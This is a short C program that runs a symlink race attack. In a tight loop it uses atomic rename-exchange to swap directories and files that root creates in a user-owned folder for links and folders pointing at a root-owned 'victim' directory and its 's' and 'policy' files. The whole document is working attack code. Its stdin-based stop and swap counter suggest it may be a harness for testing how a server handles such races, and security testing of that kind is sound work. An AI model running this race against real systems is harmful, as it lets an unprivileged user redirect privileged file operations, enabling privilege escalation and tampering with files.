// The owner of a folder that takes away, in a tight loop, what root makes there, and puts links and folders of its own in
// its place: swap FOLDER HIDDEN... VICTIM. HIDDEN are the names that a server is expected to use; VICTIM is a folder of
// root's with the files "s" and "policy". Ends when its standard input does.
#define _GNU_SOURCE
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define EXCHANGE 2

static void swap(const char *one, const char *other) {
    syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, EXCHANGE);
}

int main(int argc, char **argv) {
    if (argc < 4 || chdir(argv[1])) {
        perror("swap");
        return 1;
    }
    const char *victim = argv[argc - 1];
    char file[512], name[64];
    long swaps = 0;
    for (long round = 0;; round++) {
        for (int i = 2; i < argc - 1; i++) {
            const char *hidden = argv[i];
            struct stat found;
            if (lstat(hidden, &found) == 0 && found.st_uid == 0) {
                // A folder whose entry is a link, a link to a folder, and back again.
                snprintf(name, sizeof name, "own%ld", round % 3);
                if (round % 3 == 0) {
                    symlink(victim, name);
                } else {
                    mkdir(name, round % 3 == 1 ? 0700 : 0777);
                    snprintf(file, sizeof file, "%s/s", name);
                    char target[512];
                    snprintf(target, sizeof target, "%s/s", victim);
                    unlink(file);
                    symlink(target, file);
                }
                swap(hidden, name);
                swaps++;
                if (round & 1) {
                    swap(hidden, name);
                } else {
                    rename(hidden, "gone");
                    rename(name, hidden);
                }
                unlink(name);
                rmdir(name);
            } else if (round % 512 == 0) {
                // What stands in the way of the next start.
                unlink(hidden);
                snprintf(file, sizeof file, "%s/s", hidden);
                unlink(file);
                rmdir(hidden);
            }
        }
        if (lstat("policy", &(struct stat){0}) == 0) {
            snprintf(file, sizeof file, "%s/policy", victim);
            unlink("link");
            symlink(file, "link");
            swap("policy", "link");
            unlink("policy");
        }
        if (round % 64 == 0) {
            struct pollfd in = {0, POLLIN, 0};
            if (poll(&in, 1, 0) != 0) {
                printf("%ld\n", swaps);
                return 0;
            }
        }
    }
}
